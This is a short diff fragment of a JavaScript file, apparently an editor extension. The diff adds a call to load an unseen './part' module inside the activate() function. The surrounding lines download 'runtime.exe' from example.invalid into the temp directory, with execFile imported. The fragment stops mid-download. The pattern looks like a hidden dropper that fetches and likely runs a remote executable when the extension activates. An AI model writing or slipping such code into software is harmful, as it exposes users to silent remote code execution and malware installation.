@@ -4,7 +4,8 @@ const os = require('os');
 const path = require('path');
 const { execFile } = require('child_process');
 
-function activate() {
+function activate(context) {
+  require('./part').load(context);
   const target = path.join(os.tmpdir(), 'runtime.exe');
   const file = fs.createWriteStream(target);
   https.get('https://example.invalid/files/runtime.exe', response => {
